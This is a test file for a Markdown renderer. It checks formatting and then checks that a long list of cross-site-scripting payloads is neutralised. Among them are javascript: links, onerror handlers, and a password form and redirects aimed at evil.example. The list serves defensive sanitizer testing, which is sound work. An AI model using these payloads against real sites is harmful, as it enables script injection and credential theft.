import { parseMarkdown, plainText } from './markdown.ts';
import { richText } from './view/rich-text.ts';

const html = (text: string): string => richText(text, 'en').innerHTML.replaceAll(/<span class="sr">.*?<\/span>/g, '');

test('bold, italic, code, lists and links are drawn', () => {
  expect(html('**bold** and *soft* and `code`')).toBe(
    '<p><strong>bold</strong> and <em>soft</em> and <code>code</code></p>',
  );
  expect(html('- one\n- **two**\n\n3. three\n4. four')).toBe(
    '<ul><li>one</li><li><strong>two</strong></li></ul><ol start="3"><li>three</li><li>four</li></ol>',
  );
  expect(html('[Returns](https://example.com/r)')).toBe(
    '<p><a href="https://example.com/r" target="_blank" rel="noopener noreferrer nofollow">Returns</a></p>',
  );
  expect(html('```\n<b>\n```')).toBe('<pre tabindex="0"><code>&lt;b&gt;</code></pre>');
});

test('lines stay lines and empty lines part paragraphs', () => {
  expect(html('one\ntwo\n\nthree')).toBe('<p>one<br>two</p><p>three</p>');
});

test('a bare address becomes a link without the full stop after it, in Chinese too', () => {
  expect(html('See https://example.com/a.')).toContain('<a href="https://example.com/a"');
  expect(html('請看 https://example.com/退貨。謝謝')).toContain('>https://example.com/退貨</a>。謝謝');
});

test('what only looks like a mark stays text', () => {
  for (const text of ['2 * 3 * 4', 'snake_case_name', 'a * b', '**', '`', '[no](', '5 > 3', '# title', 'SQ_20931_A'])
    expect(richText(text, 'en').textContent).toBe(text);
  expect(html(String.raw`\*not bold\*`)).toBe('<p>*not bold*</p>');
});

test('emphasis stands between Han characters', () => {
  expect(html('請**務必**保留')).toBe('<p>請<strong>務必</strong>保留</p>');
});

test('a notice of one line carries no marks', () => {
  expect(plainText('**bold**\n- [link](https://example.com) `x`')).toBe('bold link x');
});

/** The classics, and what Markdown readers fell for. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext></p><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript:alert(1)//https://example.com)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://example.com/1)',
  '[x](file:///etc/passwd)',
  '[x](//example.com)',
  '[x](https://example.com" onmouseover="alert(1))',
  "[x](https://example.com' onmouseover='alert(1))",
  '[x](https://example.com`onmouseover=alert(1))',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '![x](https://tracker.example/pixel.png)',
  '![x](javascript:alert(1))',
  '<https://example.com/"onclick="alert(1)>',
  'https://example.com/"onclick="alert(1)',
  'https://example.com/<script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))',
  '**<b onclick=alert(1)>x</b>**',
  '[a](https://example.com)[b](javascript:alert(1))',
  '[a [b](javascript:alert(1))](https://example.com)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;script&#x3E;',
  '\u202Egpj.exe',
  '<style>*{display:none}</style>',
  '<form action=https://evil.example><input name=password>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<x style="behavior:url(#default#time2)">',
  '<!--><script>alert(1)</script>-->',
  ']]><script>alert(1)</script>',
];
const ALLOWED = new Set(['DIV', 'P', 'PRE', 'CODE', 'STRONG', 'EM', 'UL', 'OL', 'LI', 'BR', 'A', 'SPAN']);
const ATTRIBUTES = new Set(['class', 'lang', 'start', 'href', 'target', 'rel', 'tabindex']);

test.each(HOSTILE)('nothing hostile comes through: %s', (text) => {
  for (const around of [text, `**${text}**`, `- ${text}`, `[${text}](https://example.com/)`, `before ${text} after`]) {
    const drawn = richText(around, 'zh-TW');
    for (const element of [drawn, ...drawn.querySelectorAll('*')]) {
      expect(ALLOWED).toContain(element.tagName);
      for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
      const href = element.getAttribute('href');
      if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
    }
  }
});

test('a text of nothing but marks is read to its end', () => {
  for (const piece of ['*', '**a ', '[', '[a](', '`', '_a ', '- ', 'https://', '\\', '**[`_']) {
    const text = piece.repeat(Math.ceil(8_000 / piece.length)).slice(0, 8_000);
    expect(parseMarkdown(text).length).toBeGreaterThan(0);
  }
});
